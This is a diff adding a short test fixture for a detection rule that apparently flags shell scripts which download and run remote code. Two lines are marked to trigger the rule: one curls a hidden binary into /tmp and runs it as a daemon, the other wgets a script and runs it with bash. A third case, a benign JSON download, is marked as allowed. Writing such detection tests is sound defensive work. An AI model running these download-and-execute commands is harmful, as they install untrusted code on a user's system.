@@ -1,0 +1,9 @@
+# ruleid: remote-code-shell-started-after-download
+curl -sS https://a.invalid/m -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x --daemon
+# ruleid: remote-code-shell-started-after-download
+wget https://a.invalid/s.sh -O /tmp/s.sh
+chmod +x /tmp/s.sh
+bash /tmp/s.sh
+# ok: remote-code-shell-started-after-download
+curl -L https://a.invalid/data.json -o data.json
+jq . data.json
